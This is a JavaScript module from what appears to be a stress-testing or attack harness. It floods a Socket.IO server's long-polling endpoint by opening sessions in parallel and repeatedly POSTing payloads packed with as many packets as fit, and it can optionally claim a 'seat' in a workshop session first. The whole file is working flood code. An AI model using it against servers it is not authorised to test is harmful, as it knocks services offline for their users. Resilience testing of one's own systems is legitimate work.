// Long-polling: one POST carries as many packets as fit.
import { Agent, request } from 'node:http';
import { connectPacket } from '../raw-socket.js';
import { packets } from './packets.js';

const separator = '\x1e';
const path = '/socket.io/?EIO=4&transport=polling';

/** Fresh sessions, one after the other; in each such payloads until it ends. With `seated` as a seat of the workshop. */
export async function attack(target, { kinds, bytes, seated = false, width = 2 }, tally) {
  const agent = new Agent({ keepAlive: true, localAddress: target.from });
  const call = (method, sid, body) => called(`${target.url}${path}${sid ? `&sid=${sid}` : ''}`, agent, method, body);
  const payloads = kinds.flatMap((kind) => bytes.map((size) => payload(packets[kind], size)));
  let next = 0;
  await tally.many(width, async () => {
    const { status, text } = await call('GET');
    const sid = status === 200 && JSON.parse(text.slice(1)).sid;
    if (!sid) return refused(tally, status);
    tally.count('sessions');
    if (seated && !(await tookSeat(call, sid, connectPacket(target, target.seats[0])))) return tally.count('no seat');
    for (let stands = true; stands && tally.goesOn; ) {
      const { body, count } = payloads[next++ % payloads.length];
      const answer = await call('POST', sid, body);
      tally.count('payloads');
      tally.count('packets', count);
      stands = answer.status === 200;
      if (!stands) await refused(tally, answer.status);
    }
  });
  agent.destroy();
}

function payload(packet, size) {
  const parts = [];
  for (let length = 0; ; ) {
    const part = packet();
    length += part.length + 1;
    if (length > size) break;
    parts.push(part);
  }
  return { body: parts.join(separator), count: parts.length };
}

async function tookSeat(call, sid, packet) {
  await call('POST', sid, packet);
  const { text } = await call('GET', sid);
  return text.startsWith('40');
}

/** Being refused costs the attacker a moment, as it does on any network. */
async function refused(tally, status) {
  tally.count(`refused ${status}`);
  await new Promise((resolve) => setTimeout(resolve, 1));
}

function called(url, agent, method, body) {
  return new Promise((resolve) => {
    const none = { status: 0, text: '' };
    const outgoing = request(
      url,
      { agent, method, headers: { 'content-type': 'text/plain;charset=UTF-8' } },
      (answer) => {
        let text = '';
        answer.setEncoding('utf8').on('data', (part) => (text += part));
        answer.on('end', () => resolve({ status: answer.statusCode, text }));
        answer.on('error', () => resolve(none));
      },
    );
    outgoing.setTimeout(60_000, () => outgoing.destroy());
    outgoing.on('error', () => resolve(none));
    outgoing.end(body);
  });
}
